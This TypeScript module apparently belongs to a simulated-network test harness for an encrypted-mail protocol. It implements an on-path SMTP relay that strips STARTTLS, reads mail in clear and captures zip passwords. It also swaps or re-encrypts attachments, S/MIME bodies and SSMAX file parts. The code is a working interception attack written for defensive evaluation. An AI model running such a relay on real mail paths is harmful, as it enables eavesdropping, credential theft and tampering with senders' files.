import { createHash } from 'node:crypto';
import type { Socket } from 'node:net';
import nodemailer from 'nodemailer';
import { SMTPServer, type SMTPServerSession } from 'smtp-server';
import {
  Oids,
  buildMimeEntity,
  buildPkcs7Mime,
  canonicalizeLineEndings,
  createZip,
  encryptContent,
  findTextBody,
  looksLikeZip,
  parseMimeEntity,
  parseSmime,
  readZip,
  type MimePart,
  type ZipArchive,
} from '@ssmax/core';
import type { OnPathContext, OnPathHook } from '@ssmax/sim-net';
import { addressIn, messageIdOf, rawHeader, splitTopLevel } from './compose-mail.js';
import type { AttackerContext, OnPathFoothold } from './footholds.js';
import { recordMailContent } from './mailbox-access.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { findPpapPasswords, openCapturedZips } from './ppap.js';
import { smtpFailure } from './smtp-send.js';

/**
 * PPAP re-zip: instead of swapping a ZipCrypto archive for a foreign file (which the recipient would notice:
 * it is not the archive the password mail talks about), the relay builds a new ZipCrypto archive of its own
 * files under the sender's own password (APPNOTE 6.1). The password crosses the same wire in the second
 * mail, so the relay holds the first mail until it has it.
 */
export interface PpapRezip {
  /** The files the new archive holds. */
  readonly entries: readonly { readonly name: string; readonly data: Uint8Array }[];
  /** How long a mail whose archive no captured password opens is held before it goes on unchanged (ms, default 30000). */
  readonly holdMs?: number;
}

/**
 * S/MIME swap: the relay cannot read or re-sign an enveloped message (RFC 8551 §3.3, §3.4), but anyone can
 * encrypt to a recipient's public certificate. So it replaces the whole encrypted body with its own,
 * unsigned, entity encrypted to the recipient.
 */
export interface SmimeSwap {
  /** The recipient's encryption certificate (DER), as a directory or an earlier signed mail would give it; undefined if the attacker has none. */
  readonly recipientCertificate: (address: string) => Promise<Uint8Array | undefined>;
  /** Body text of the replacement (default a short lure). */
  readonly text?: string;
  /** When set, the text adds "The password for the archive is: <password>". */
  readonly password?: string;
}

/**
 * SSMAX swap: an SSMAX hop carries each file as its own encrypted part (X-SSMAX-File) inside the sending
 * org's signature. The relay cannot read it or re-sign the hop, but the next hop's KMS encryption
 * certificate is public (the registry directory), so it replaces each file part's ciphertext with its own
 * file encrypted to that certificate and leaves every other byte as it was: only the org signature, the
 * inspection and the sender manifest can tell.
 */
export interface SsmaxSwap {
  /** The encryption certificate (DER) of the org that receives mail for `domain`, from the registry directory; undefined if none. */
  readonly encryptionCertificate: (domain: string) => Promise<Uint8Array | undefined>;
}

/** What the relay does to attachments before forwarding. */
export type AttachmentTamper =
  | {
      /** Replace the file (all attachments, or those named `filename`) with other bytes. */
      readonly kind: 'swap';
      /** Only attachments of this name (also for `rezip`; an S/MIME-encrypted body hides its names, so `smime` ignores it). */
      readonly filename?: string;
      readonly replacement: { readonly content: Uint8Array; readonly filename?: string; readonly contentType?: string };
      /** Re-zip ZipCrypto archives under their PPAP password instead of swapping them for `replacement`. */
      readonly rezip?: PpapRezip;
      /** Replace S/MIME-encrypted (application/pkcs7-mime enveloped) messages with an own entity carrying `replacement`. */
      readonly smime?: SmimeSwap;
      /** In an SSMAX hop, replace each encrypted file part with `replacement` encrypted to the next hop's KMS. */
      readonly ssmax?: SsmaxSwap;
    }
  | {
      /** Change the file's bytes, keeping its name and type. */
      readonly kind: 'alter';
      readonly filename?: string;
      readonly transform: (content: Uint8Array, filename: string) => Uint8Array;
    };

export interface OnPathMtaOptions {
  /** Swap or alter attached files before forwarding (default: forward unchanged). */
  readonly tamper?: AttachmentTamper;
  /** Greeting name shown to the client (default the intercepted service's host name). */
  readonly greetingName?: string;
  /**
   * Offer STARTTLS with this identity instead of stripping it: a certificate for the MX's name that a CA
   * the client trusts issued to the attacker (domain validation over a hijacked route). A client that
   * checks only the CA and the name talks TLS to the relay; one that pins the key the registry
   * publishes (ssmax-plus) refuses it.
   */
  readonly tls?: { readonly key: string; readonly cert: string };
}

/** One client connection the relay intercepted. */
export interface InterceptedSession {
  readonly client: string;
  /** The client's EHLO name. */
  readonly helo: string | undefined;
  /** The client closed without sending any message (e.g. it required TLS, which the relay withheld). */
  readonly leftWithoutMail: boolean;
  /** Messages received from the client on this connection. */
  readonly messages: number;
}

/** One attachment {@link tamperAttachments} replaced. */
export interface TamperedAttachment {
  readonly filename: string;
  /** First 16 hex digits of SHA-256 of the decoded content before and after. */
  readonly before: string;
  readonly after: string;
  /** Set when a ZipCrypto archive was re-zipped (`rezip`): the captured password it was built under. */
  readonly rezippedWith?: string;
}

/** Options of {@link tamperAttachments}. */
export interface TamperAttachmentsOptions {
  /** Candidate PPAP passwords for `rezip`; each is tried on the archive and used only if it opens it. */
  readonly passwords?: readonly string[];
}

/** What {@link tamperAttachments} did. */
export interface TamperResult {
  readonly raw: Uint8Array;
  readonly changed: TamperedAttachment[];
  /** ZipCrypto archives `rezip` should replace but none of `passwords` opens (left unchanged in `raw`). */
  readonly locked: string[];
}

const sha = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex').slice(0, 16);

function base64Lines(b: Uint8Array): string {
  return (
    Buffer.from(b)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');
}

function attachmentLeaves(root: MimePart): MimePart[] {
  if (root.parts.length === 0) return root.filename !== undefined ? [root] : [];
  return root.parts.flatMap(attachmentLeaves);
}

/** The archive, when `bytes` is a ZIP whose encrypted entries all use ZipCrypto (APPNOTE 6.1) and there is at least one. */
function zipCryptoArchive(bytes: Uint8Array): ZipArchive | undefined {
  if (!looksLikeZip(bytes)) return undefined;
  try {
    const z = readZip(bytes);
    const encrypted = z.entries.filter((e) => !e.isDirectory && e.encrypted);
    return encrypted.length > 0 && encrypted.every((e) => e.encryption === 'zipcrypto') ? z : undefined;
  } catch {
    return undefined;
  }
}

/**
 * True when `password` opens every encrypted entry. ZipCrypto's one check byte (APPNOTE 6.1.6) lets 1 in 256
 * wrong passwords through; reading the entry also checks its CRC-32, so a password passes only if it is right.
 */
function opens(z: ZipArchive, password: string): boolean {
  try {
    for (const e of z.entries) if (!e.isDirectory && e.encrypted) z.read(e, { password });
    return true;
  } catch {
    return false;
  }
}

/** Replaces the decoded body of `part`: its header lines stay byte for byte when it already is base64 (same name, same type); otherwise new ones. */
function rebuiltPart(part: MimePart, content: Uint8Array, type: string, name: string, keepHeaders: boolean): Buffer {
  const raw = Buffer.from(part.raw);
  const headerEnd = raw.indexOf('\r\n\r\n');
  if (keepHeaders && part.transferEncoding === 'base64' && headerEnd >= 0) {
    return Buffer.concat([raw.subarray(0, headerEnd + 4), Buffer.from(base64Lines(content), 'latin1')]);
  }
  return Buffer.from(
    `Content-Type: ${type}; name="${name}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${base64Lines(content)}`,
    'latin1',
  );
}

/**
 * Applies `tamper` to the attachments of `raw`: each matching part's exact bytes are replaced by a newly
 * built part (base64), so everything else in the message stays byte for byte. Returns what changed.
 *
 * With `rezip`, a ZipCrypto archive is not swapped for `replacement` but rebuilt from `rezip.entries` under
 * the first of `o.passwords` that opens it, keeping the part's header lines (so its name and type); an archive
 * none of them opens is listed in `locked` and left as it is.
 */
export function tamperAttachments(raw: Uint8Array, tamper: AttachmentTamper, o: TamperAttachmentsOptions = {}): TamperResult {
  const root = parseMimeEntity(raw);
  let out = Buffer.from(raw);
  const changed: TamperedAttachment[] = [];
  const locked: string[] = [];
  for (const part of attachmentLeaves(root)) {
    const name = part.filename ?? '';
    if (tamper.filename !== undefined && tamper.filename !== name) continue;
    let rebuilt: Buffer;
    let entry: TamperedAttachment;
    const archive = tamper.kind === 'swap' && tamper.rezip ? zipCryptoArchive(part.body) : undefined;
    if (tamper.kind === 'swap' && tamper.rezip && archive) {
      const password = (o.passwords ?? []).find((p) => opens(archive, p));
      if (password === undefined) {
        locked.push(name);
        continue;
      }
      const zip = createZip(
        tamper.rezip.entries.map((e) => ({ name: e.name, data: e.data })),
        { password },
      );
      rebuilt = rebuiltPart(part, zip, 'application/zip', name, true);
      entry = { filename: name, before: sha(part.body), after: sha(zip), rezippedWith: password };
    } else {
      const content = tamper.kind === 'swap' ? tamper.replacement.content : tamper.transform(part.body, name);
      const newName = tamper.kind === 'swap' ? (tamper.replacement.filename ?? name) : name;
      const type = tamper.kind === 'swap' ? (tamper.replacement.contentType ?? part.contentType.mediaType) : part.contentType.mediaType;
      rebuilt = rebuiltPart(part, content, type, newName, false);
      entry = { filename: newName, before: sha(part.body), after: sha(content) };
    }
    const at = out.indexOf(Buffer.from(part.raw));
    if (at < 0) continue;
    out = Buffer.concat([out.subarray(0, at), rebuilt, out.subarray(at + part.raw.byteLength)]);
    changed.push(entry);
  }
  return { raw: new Uint8Array(out), changed, locked };
}

/** Decodes the first OID of a DER/BER ContentInfo (RFC 5652 §3: SEQUENCE { contentType OID, … }). */
function contentInfoType(der: Uint8Array): string | undefined {
  if (der[0] !== 0x30 || der.length < 4) return undefined;
  let off = 1;
  const l0 = der[off++]!;
  if (l0 > 0x80) off += l0 & 0x7f;
  if (der[off] !== 0x06) return undefined;
  const len = der[off + 1]!;
  if (len >= 0x80 || off + 2 + len > der.length) return undefined;
  const bytes = der.subarray(off + 2, off + 2 + len);
  const arcs: number[] = [];
  let v = 0;
  for (const b of bytes) {
    v = v * 128 + (b & 0x7f);
    if ((b & 0x80) === 0) {
      if (arcs.length === 0) arcs.push(v < 80 ? Math.floor(v / 40) : 2, v < 80 ? v % 40 : v - 80);
      else arcs.push(v);
      v = 0;
    }
  }
  return arcs.join('.');
}

/**
 * The smime-type of an S/MIME-encrypted message: application/pkcs7-mime with smime-type enveloped-data
 * (RFC 8551 §3.3) or authEnveloped-data (§3.4), or without smime-type (older agents, §3.2.2) whose
 * ContentInfo is EnvelopedData or AuthEnvelopedData (RFC 5083). undefined for anything else.
 */
export function envelopedSmimeType(raw: Uint8Array): 'enveloped-data' | 'authEnveloped-data' | undefined {
  let s;
  try {
    s = parseSmime(raw);
  } catch {
    return undefined;
  }
  if (s.kind !== 'pkcs7-mime') return undefined;
  if (s.smimeType === 'enveloped-data' || s.smimeType === 'authEnveloped-data') return s.smimeType;
  if (s.smimeType !== undefined) return undefined;
  const oid = contentInfoType(s.der);
  return oid === Oids.envelopedData ? 'enveloped-data' : oid === Oids.authEnvelopedData ? 'authEnveloped-data' : undefined;
}

/**
 * `raw` with its Content-* header fields and body replaced by those of `built` (a complete message): every
 * other header line (From, To, Cc, Subject, Date, Message-ID, Received, …) stays byte for byte.
 */
function replaceEntity(raw: Uint8Array, built: Uint8Array): Uint8Array {
  const orig = splitTopLevel(canonicalizeLineEndings(raw));
  const next = splitTopLevel(built);
  const mimeVersion = /^mime-version:/im.test(orig.headers) ? '' : next.headers;
  return new Uint8Array(Buffer.concat([Buffer.from(orig.headers + mimeVersion, 'latin1'), next.entity]));
}

const SMIME_LURE = 'Please find the file attached.';

function collect(stream: NodeJS.ReadableStream): Promise<Uint8Array> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    stream.on('data', (c: Buffer) => chunks.push(c));
    stream.on('end', () => resolve(new Uint8Array(Buffer.concat(chunks))));
    stream.on('error', reject);
  });
}

/** A message the relay answered "250" for itself and keeps until it has the archive's password. */
interface HeldMessage {
  readonly messageId: string;
  readonly raw: Uint8Array;
  readonly from: string;
  readonly to: string[];
  readonly helo: string;
  /** The sim-net context of the session it came in on. */
  readonly context: OnPathContext | undefined;
  readonly archives: string[];
  timer: NodeJS.Timeout | undefined;
}

/**
 * Incident 4: an MTA on the path to a receiving MX (sim-net's `insertOnPath`). It speaks SMTP to both
 * sides: to the sender it offers no STARTTLS (RFC 3207 §4 lets a client continue in clear; a client that
 * requires TLS — its own policy or MTA-STS enforce, RFC 8461 §5 — gives up, and nothing is sent), reads
 * each message, optionally swaps or alters attached files, and relays it to the real MX, answering the
 * sender with the MX's own reply.
 *
 * Two swaps need more than one message or more than the message:
 * - PPAP (`rezip`): the archive's password comes in a later mail on the same wire. The relay stores and
 *   forwards (RFC 5321 §6.1 makes the "250" a promise it may keep later): it answers the first mail itself,
 *   and relays it re-zipped under the password just before the password mail. See {@link settled}.
 * - S/MIME (`smime`): an enveloped body cannot be read or re-signed, but can be replaced by one encrypted
 *   to the recipient's public certificate; what gives it away is that it is unsigned.
 */
export class OnPathMta implements Disposable {
  readonly #rec = new OutcomeRecorder('on-path-mta');
  readonly #server: SMTPServer;
  readonly #contexts = new Map<string, OnPathContext>();
  readonly #sessions = new Map<string, { client: string; helo: string | undefined; demanded: boolean; messages: number }>();
  readonly #sockets = new Set<Socket>();
  /** PPAP passwords stated in relayed mail, newest first. */
  readonly #passwords: string[] = [];
  readonly #held: HeldMessage[] = [];
  readonly #waiters: (() => void)[] = [];
  /** Messages being processed or relayed upstream right now. */
  #busy = 0;
  #hook: OnPathHook | undefined;

  private constructor(
    private readonly ctx: AttackerContext,
    readonly service: string,
    private readonly options: OnPathMtaOptions,
  ) {
    const host = service.slice(0, service.lastIndexOf(':'));
    this.#server = new SMTPServer({
      name: options.greetingName ?? host,
      // RFC 3207 §4: with STARTTLS absent from the EHLO reply, an opportunistic client continues in clear.
      ...(options.tls
        ? { key: options.tls.key, cert: options.tls.cert, disabledCommands: ['AUTH'] }
        : { disabledCommands: ['STARTTLS', 'AUTH'], hideSTARTTLS: true }),
      authOptional: true,
      logger: false,
      onConnect: (session, cb) => {
        this.#sessions.set(session.id, { client: `${session.remoteAddress}:${session.remotePort}`, helo: undefined, demanded: false, messages: 0 });
        cb();
      },
      onData: (stream, session, cb) => {
        collect(stream).then(
          (raw) =>
            this.#relay(session, raw).then(
              (reply) => cb(null, reply),
              (err: Error) => cb(err),
            ),
          (err: Error) => cb(err),
        );
      },
      onClose: (session) => this.#closed(session),
    });
    this.#server.on('error', () => undefined);
  }

  /** Puts the relay on the path to the foothold's service. */
  static insert(ctx: AttackerContext, foothold: OnPathFoothold, options: OnPathMtaOptions = {}): OnPathMta {
    const service =
      typeof foothold.service === 'string' ? foothold.service.trim().toLowerCase() : `${foothold.service.host.toLowerCase()}:${foothold.service.port}`;
    const mta = new OnPathMta(ctx, service, options);
    mta.#hook = ctx.net.insertOnPath(service, (socket: Socket, context: OnPathContext) => {
      mta.#contexts.set(`${socket.remoteAddress}:${socket.remotePort}`, context);
      mta.#sockets.add(socket);
      socket.once('close', () => mta.#sockets.delete(socket));
      // The accepted socket allows half-open connections; a client that is done is done.
      socket.once('end', () => socket.end());
      mta.#rec.act(
        `intercepted a connection from ${context.meta.client.address} to ${service}; ${options.tls ? 'EHLO reply offers STARTTLS with its own certificate' : 'EHLO reply without STARTTLS'}`,
      );
      // Hand the accepted socket to the SMTP server as if it had accepted it itself.
      mta.#server.server.emit('connection', socket);
    });
    mta.#rec.act(`inserted an SMTP relay on the path to ${service}`);
    return mta;
  }

  /** Sessions seen so far. */
  sessions(): InterceptedSession[] {
    return [...this.#sessions.values()].map((s) => ({ client: s.client, helo: s.helo, leftWithoutMail: s.demanded, messages: s.messages }));
  }

  /** Everything the relay did and read so far. */
  outcome(): AttackOutcome {
    const o = this.#rec.done();
    if (o.obtained.length === 0 && !o.error)
      return { ...o, error: { code: 'NOTHING_CAPTURED', message: 'No message crossed the relay: no client sent mail through it.' } };
    return o;
  }

  /**
   * Resolves once the relay holds no message and relays none upstream, so the recipient's mailbox shows
   * everything the relay will deliver. A held PPAP mail counts until its password mail came or `holdMs` ran
   * out. Messages whose DATA the relay has not finished reading yet are not counted.
   */
  settled(): Promise<void> {
    if (this.#idle()) return Promise.resolve();
    return new Promise((resolve) => this.#waiters.push(resolve));
  }

  /** Takes the relay off the path (new connections are forwarded again). Messages still held are dropped, and recorded as such. */
  remove(): void {
    this.#hook?.remove();
    this.#hook = undefined;
    for (const h of this.#held.splice(0)) {
      clearTimeout(h.timer);
      this.#rec.act(`taken off the path while holding ${h.messageId || 'a message'}: it was never delivered`);
    }
    for (const s of this.#sockets) s.destroy();
    this.#sockets.clear();
    this.#server.close();
    this.#checkSettled();
  }

  [Symbol.dispose](): void {
    this.remove();
  }

  #idle(): boolean {
    return this.#busy === 0 && this.#held.length === 0;
  }

  #checkSettled(): void {
    if (!this.#idle()) return;
    for (const w of this.#waiters.splice(0)) w();
  }

  #closed(session: SMTPServerSession): void {
    const s = this.#sessions.get(session.id);
    if (!s) return;
    s.helo = session.hostNameAppearsAs ?? s.helo;
    if (s.messages === 0) {
      // The client left without DATA: with STARTTLS missing, a client that requires TLS stops here.
      s.demanded = true;
      this.#rec.act(`client ${s.client} (${s.helo ?? 'no EHLO'}) left without sending mail`);
    }
  }

  /** Records the passwords the message states (for openCapturedZips) and remembers them. */
  #learnPasswords(raw: Uint8Array, where: string): string[] {
    let text = '';
    try {
      text = findTextBody(parseMimeEntity(raw)) ?? '';
    } catch {
      return [];
    }
    const stated = findPpapPasswords(text);
    const subject = rawHeader(raw, 'Subject') ?? '';
    for (const pw of stated) {
      const bytes = Buffer.from(pw, 'utf8');
      if (!this.#rec.obtained.some((o) => o.kind === 'credentials' && o.bytes && bytes.equals(o.bytes))) {
        this.#rec.obtain({ kind: 'credentials', bytes: new Uint8Array(bytes), note: `PPAP password stated in "${subject}" ${where}` });
      }
      const at = this.#passwords.indexOf(pw);
      if (at >= 0) this.#passwords.splice(at, 1);
    }
    this.#passwords.unshift(...stated);
    return stated;
  }

  async #relay(session: SMTPServerSession, raw: Uint8Array): Promise<string> {
    const s = this.#sessions.get(session.id);
    if (s) {
      s.messages++;
      s.helo = session.hostNameAppearsAs;
    }
    const from = session.envelope.mailFrom === false ? '' : session.envelope.mailFrom.address;
    const to = session.envelope.rcptTo.map((r) => r.address);
    const messageId = messageIdOf(raw);
    const where = `in clear on the path to ${this.service}`;
    const helo = session.hostNameAppearsAs || this.service;
    const context = this.#contexts.get(`${session.remoteAddress}:${session.remotePort}`);
    this.#busy++;
    try {
      this.#rec.act(`read DATA of ${messageId || 'a message'} (${raw.byteLength} bytes) from ${from} to ${to.join(', ')}`);
      recordMailContent(this.#rec, raw, where);
      this.#learnPasswords(raw, where);
      openCapturedZips(this.#rec);

      // Held PPAP mail whose archive a password now known opens goes first, as the sender sent it first.
      await this.#releaseOpened(context);

      let forward = raw;
      const tamper = this.options.tamper;
      const smimeType = tamper?.kind === 'swap' && tamper.smime ? envelopedSmimeType(raw) : undefined;
      if (tamper?.kind === 'swap' && tamper.smime && smimeType) {
        forward = await this.#smimeSwap(raw, tamper, tamper.smime, smimeType, to);
      } else if (tamper?.kind === 'swap' && tamper.ssmax && rawHeader(raw, 'X-SSMAX-Hop') !== undefined) {
        forward = await this.#ssmaxSwap(raw, tamper, tamper.ssmax, to);
      } else if (tamper) {
        try {
          const t = tamperAttachments(raw, tamper, { passwords: this.#passwords });
          if (t.locked.length > 0 && tamper.kind === 'swap' && tamper.rezip) {
            this.#hold(raw, { messageId, from, to, helo, context, archives: t.locked, holdMs: tamper.rezip.holdMs ?? 30_000 });
            return 'OK: message queued';
          }
          forward = t.raw;
          this.#recordChanges(t.changed, tamper.kind);
        } catch (err) {
          this.#rec.act(`could not parse the message to tamper with it (${(err as Error).message}); forwarded unchanged`);
        }
      }
      if (!context) throw Object.assign(new Error('Relay lost its upstream'), { responseCode: 451 });
      try {
        const reply = await this.#sendUpstream([context], helo, from, to, forward);
        return reply.replace(/^\d{3}[ -](\d\.\d\.\d+ )?/, '');
      } catch (err) {
        const f = smtpFailure(err);
        const code = Number(/^(\d{3})/.exec(f.smtpReply ?? '')?.[1] ?? 451);
        throw Object.assign(new Error((f.smtpReply ?? f.message).replace(/^\d{3}[ -](\d\.\d\.\d+ )?/, '')), { responseCode: code });
      }
    } finally {
      this.#busy--;
      this.#checkSettled();
    }
  }

  #recordChanges(changed: readonly TamperedAttachment[], kind: AttachmentTamper['kind']): void {
    for (const c of changed) {
      if (c.rezippedWith !== undefined) this.#rec.act(`re-zipped ${c.filename} under the captured password (sha256 ${c.before}… → ${c.after}…)`);
      else this.#rec.act(`${kind === 'swap' ? 'swapped' : 'altered'} attachment ${c.filename} (sha256 ${c.before}… → ${c.after}…)`);
    }
    if (changed.length === 0) this.#rec.act('no attachment matched; forwarded unchanged');
  }

  #hold(raw: Uint8Array, h: Omit<HeldMessage, 'raw' | 'timer'> & { holdMs: number }): void {
    const held: HeldMessage = { messageId: h.messageId, raw, from: h.from, to: h.to, helo: h.helo, context: h.context, archives: h.archives, timer: undefined };
    held.timer = setTimeout(() => void this.#expire(held, h.holdMs), h.holdMs);
    this.#held.push(held);
    this.#rec.act(
      `held ${h.messageId || 'a message'} until the password mail: no captured password opens ${h.archives.join(', ')}; answered the sender 250 itself`,
    );
  }

  /** Relays every held message whose archives a known password now opens, re-zipped, in the order they came. */
  async #releaseOpened(later: OnPathContext | undefined): Promise<void> {
    const tamper = this.options.tamper;
    if (this.#held.length === 0 || tamper?.kind !== 'swap' || !tamper.rezip) return;
    const ready: { held: HeldMessage; raw: Uint8Array; changed: TamperedAttachment[] }[] = [];
    for (const held of [...this.#held]) {
      let t: TamperResult;
      try {
        t = tamperAttachments(held.raw, tamper, { passwords: this.#passwords });
      } catch {
        continue;
      }
      if (t.locked.length > 0) continue;
      clearTimeout(held.timer);
      this.#held.splice(this.#held.indexOf(held), 1);
      ready.push({ held, raw: t.raw, changed: t.changed });
    }
    for (const r of ready) {
      this.#rec.act(`the password for ${r.held.archives.join(', ')} of ${r.held.messageId || 'the held message'} arrived`);
      this.#recordChanges(r.changed, 'swap');
      await this.#deliverHeld(r.held, r.raw, later);
    }
  }

  async #expire(held: HeldMessage, holdMs: number): Promise<void> {
    const at = this.#held.indexOf(held);
    if (at < 0) return;
    this.#held.splice(at, 1);
    this.#busy++;
    try {
      this.#rec.act(`no password for ${held.archives.join(', ')} within ${holdMs} ms; relaying held ${held.messageId || 'message'} unchanged`);
      await this.#deliverHeld(held, held.raw, undefined);
    } finally {
      this.#busy--;
      this.#checkSettled();
    }
  }

  /** Relays a held message upstream: through its own session's context, else through the later session's. Failures are recorded, not thrown (its sender already has its 250). */
  async #deliverHeld(held: HeldMessage, raw: Uint8Array, later: OnPathContext | undefined): Promise<void> {
    const contexts = [held.context, later].filter((c): c is OnPathContext => c !== undefined);
    if (contexts.length === 0) {
      this.#rec.act(`could not relay held ${held.messageId || 'message'}: no upstream context`);
      this.#rec.fail('CONNECTION_FAILED', `Cannot relay the held message ${held.messageId}. Because no session context to reach ${this.service} remains.`);
      return;
    }
    try {
      await this.#sendUpstream(contexts, held.helo, held.from, held.to, raw, `held ${held.messageId || 'message'}`);
    } catch {
      // Recorded by #sendUpstream.
    }
  }

  /** Opens a connection with the first context that still can, sends `raw`, records the reply; throws the SMTP failure after recording it. */
  async #sendUpstream(contexts: readonly OnPathContext[], helo: string, from: string, to: string[], raw: Uint8Array, label = ''): Promise<string> {
    let upstream: Socket | undefined;
    let context: OnPathContext | undefined;
    let lastError: unknown;
    for (const c of contexts) {
      try {
        upstream = await c.connectUpstream();
        context = c;
        break;
      } catch (err) {
        lastError = err;
      }
    }
    if (!upstream || !context) {
      const f = smtpFailure(lastError);
      this.#rec.fail(f.code, f.message, f.smtpReply);
      this.#rec.act(`could not reach ${this.service}${label ? ` for ${label}` : ''}: ${f.message}`);
      throw lastError instanceof Error ? lastError : new Error(String(lastError));
    }
    if (context !== contexts[0])
      this.#rec.act(`the first session's path to ${this.service} was gone; relayed ${label || 'the message'} through the later session's`);
    const socket = upstream;
    this.#sockets.add(socket);
    socket.once('close', () => this.#sockets.delete(socket));
    const transport = nodemailer.createTransport({
      getSocket: (_o: unknown, cb: (err: Error | null, socketOptions?: { connection: Socket }) => void) => cb(null, { connection: socket }),
      host: context.meta.target.address,
      port: context.meta.target.port,
      secure: false,
      name: helo,
      // The relay itself takes TLS to the MX when offered; it trusts any certificate.
      tls: { rejectUnauthorized: false },
    } as never);
    try {
      const info = await transport.sendMail({ envelope: { from, to }, raw: Buffer.from(raw) });
      const reply = String(info.response ?? '250 OK');
      this.#rec.sent = { messageId: messageIdOf(raw), smtpReply: reply, raw, envelope: { from, to } };
      this.#rec.act(`relayed ${label ? `${label} ` : ''}to ${this.service}: ${reply}`);
      return reply;
    } catch (err) {
      const f = smtpFailure(err);
      this.#rec.fail(f.code, f.message, f.smtpReply);
      this.#rec.act(`upstream refused${label ? ` ${label}` : ''}: ${f.smtpReply ?? f.message}`);
      throw err;
    } finally {
      transport.close();
      socket.destroy();
    }
  }

  /** Replaces each encrypted file part of an SSMAX hop with the relay's file encrypted to the next hop's KMS; every other byte stays. */
  async #ssmaxSwap(raw: Uint8Array, tamper: Extract<AttachmentTamper, { kind: 'swap' }>, ssmax: SsmaxSwap, to: readonly string[]): Promise<Uint8Array> {
    const messageId = messageIdOf(raw) || 'the message';
    const domain = (to[0] ?? '').split('@')[1] ?? '';
    try {
      const cert = await ssmax.encryptionCertificate(domain);
      if (!cert) {
        this.#rec.act(`${messageId} is an SSMAX hop, but the directory lists no encryption certificate for ${domain}; forwarded unchanged`);
        return raw;
      }
      const fileParts = attachmentLeaves(parseMimeEntity(raw)).filter((p) => p.headers.some((h) => h.name.toLowerCase() === 'x-ssmax-file'));
      if (fileParts.length === 0) {
        this.#rec.act(`${messageId} is an SSMAX hop without file parts; forwarded unchanged`);
        return raw;
      }
      const name = tamper.replacement.filename ?? 'attachment.bin';
      const type = tamper.replacement.contentType ?? 'application/octet-stream';
      // The file as a sender's agent wraps it (docs/PROTOCOL.md §6): its own MIME entity, then CMS to the KMS.
      const entity = Buffer.from(
        `Content-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64Lines(tamper.replacement.content)}`,
        'latin1',
      );
      let out = Buffer.from(raw);
      for (const part of fileParts) {
        const der = await encryptContent(new Uint8Array(entity), { recipients: [cert] });
        const at = out.indexOf(Buffer.from(part.raw));
        if (at < 0) continue;
        out = Buffer.concat([
          out.subarray(0, at),
          rebuiltPart(part, der, part.contentType.mediaType, part.filename ?? name, true),
          out.subarray(at + part.raw.byteLength),
        ]);
      }
      this.#rec.act(
        `${messageId} is an SSMAX hop: replaced ${fileParts.length} encrypted file part(s) with ${name} encrypted to ${domain}'s public KMS certificate; the org signature over them now fails`,
      );
      this.#recordChanges(
        fileParts.map((p) => ({ filename: p.filename ?? '?', before: sha(p.body), after: sha(tamper.replacement.content) })),
        'swap',
      );
      return new Uint8Array(out);
    } catch (err) {
      this.#rec.act(`could not swap the SSMAX file parts (${(err as Error).message}); forwarded ${messageId} unchanged`);
      return raw;
    }
  }

  /** Replaces an S/MIME-encrypted message with the relay's own unsigned entity, encrypted to the recipients' certificates. */
  async #smimeSwap(
    raw: Uint8Array,
    tamper: Extract<AttachmentTamper, { kind: 'swap' }>,
    smime: SmimeSwap,
    type: 'enveloped-data' | 'authEnveloped-data',
    to: readonly string[],
  ): Promise<Uint8Array> {
    const messageId = messageIdOf(raw) || 'the message';
    const sender = addressIn(rawHeader(raw, 'From')) ?? 'its sender';
    const certs: Uint8Array[] = [];
    const named: string[] = [];
    const missing: string[] = [];
    for (const address of to) {
      let cert: Uint8Array | undefined;
      try {
        cert = await smime.recipientCertificate(address);
      } catch (err) {
        missing.push(`${address} (${(err as Error).message})`);
        continue;
      }
      if (cert) {
        certs.push(cert);
        named.push(address);
      } else missing.push(address);
    }
    this.#rec.act(`${messageId} is S/MIME ${type}: its body is ciphertext the relay cannot read or re-sign`);
    if (certs.length === 0) {
      this.#rec.act(`no public certificate of ${to.join(', ') || 'any recipient'} to encrypt a replacement to; forwarded ${messageId} unchanged`);
      return raw;
    }
    if (missing.length > 0) this.#rec.act(`no public certificate of ${missing.join(', ')}: the replacement is not encrypted to them`);
    const text = (smime.text ?? SMIME_LURE) + (smime.password !== undefined ? `\n\nThe password for the archive is: ${smime.password}\n` : '\n');
    try {
      const entity = buildMimeEntity({
        text,
        attachments: [
          {
            filename: tamper.replacement.filename ?? 'attachment.bin',
            contentType: tamper.replacement.contentType ?? 'application/octet-stream',
            content: tamper.replacement.content,
          },
        ],
      });
      // Default cipher AES-256-GCM, so AuthEnvelopedData (RFC 5083, RFC 8551 §3.4).
      const der = await encryptContent(entity, { recipients: certs });
      const out = replaceEntity(raw, buildPkcs7Mime(der, 'authEnveloped-data'));
      this.#rec.act(
        `replaced the S/MIME-encrypted body with its own, encrypted to ${named.map((a) => `${a}'s`).join(', ')} public certificate (unsigned: it cannot sign as ${sender})`,
      );
      return out;
    } catch (err) {
      this.#rec.act(`could not build the replacement (${(err as Error).message}); forwarded ${messageId} unchanged`);
      return raw;
    }
  }
}
